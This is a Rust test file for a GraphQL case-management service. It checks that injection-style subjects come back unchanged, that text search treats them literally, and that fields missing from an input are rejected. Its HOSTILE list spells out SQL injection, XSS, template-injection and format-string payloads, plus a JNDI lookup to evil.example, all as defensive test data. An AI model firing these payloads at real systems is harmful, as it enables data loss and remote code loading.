//! Words that mean something to an interpreter are words like any other here.

use domain::Role;
use serde_json::json;

use crate::graphql_desk::{Desk, open_case};

const HOSTILE: [&str; 12] = [
    "'; drop table events; --",
    "\" or 1=1 --",
    "%' or '1'='1",
    r"\'; select pg_sleep(30); --",
    "$1 and true",
    "100%",
    "under_score",
    r"back\slash",
    "{{ 7 * 7 }} ${7*7} <%= 7 %>",
    "</script><script>alert(1)</script>",
    r#"{"a": [1, null], "b": "\u0000"}"#,
    "%s%n %{0} ${jndi:ldap://evil.example/a}",
];

/// Whether a search for a text finds a subject: all of its words stand in it.
fn finds(text: &str, subject: &str) -> bool {
    let subject = subject.to_lowercase();
    text.split_whitespace().all(|word| subject.contains(&word.to_lowercase()))
}

#[tokio::test]
async fn what_means_something_to_sql_or_json_comes_back_as_it_was_sent_and_finds_itself() {
    let desk = Desk::open().await;
    for subject in HOSTILE {
        let case_id = open_case(&desk.contact, desk.opening(subject)).await;
        let document = "query($id: ID!) { case(id: $id) { subject } }";
        let read = desk.contact.data(document, json!({ "id": case_id })).await;
        assert_eq!(read["case"]["subject"], subject);
    }
    let administrator = desk.app.staff(Role::Administrator).await;
    for text in HOSTILE {
        let expected = HOSTILE.iter().filter(|subject| finds(text, subject)).count();
        let document = "query($text: String!) { cases(filter: { text: $text }) { totalCount } accountPicker(text: $text) { account { id } } }";
        let found = desk.contact.data(document, json!({ "text": text })).await;
        assert_eq!(found["cases"]["totalCount"], expected, "{text}");
        assert_eq!(found["accountPicker"], json!([]), "{text}");
        let document = "query($text: String!) { users(filter: { text: $text }) { totalCount } accounts(text: $text) { totalCount } }";
        let found = administrator.data(document, json!({ "text": text })).await;
        assert_eq!(found, json!({ "users": { "totalCount": 0 }, "accounts": { "totalCount": 0 } }), "{text}");
    }
    let pattern = desk.contact.data("{ cases(filter: { text: \"%\" }) { totalCount } }", json!({})).await;
    let with_percent = HOSTILE.iter().filter(|subject| subject.contains('%')).count();
    assert_eq!(pattern["cases"]["totalCount"], with_percent, "a pattern is no pattern");
}

/// What an input does not have cannot be set by naming it.
#[tokio::test]
async fn a_field_that_an_input_does_not_have_is_refused() {
    let desk = Desk::open().await;
    let document = harness::mutation_document("caseOpen", "case { id }");
    for (field, value) in
        [("status", json!("CLOSED")), ("number", json!("CS-000999")), ("openedAt", json!("2020-01-01T00:00:00Z"))]
    {
        let mut opening = desk.opening("Silent line");
        opening[field] = value;
        let refused = desk.contact.error_code(&document, json!({ "input": opening })).await;
        assert!(["GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"].contains(&refused.as_str()), "{field}: {refused}");
    }
    let cases = desk.contact.data("{ cases { totalCount } }", json!({})).await;
    assert_eq!(cases["cases"]["totalCount"], 0);
}
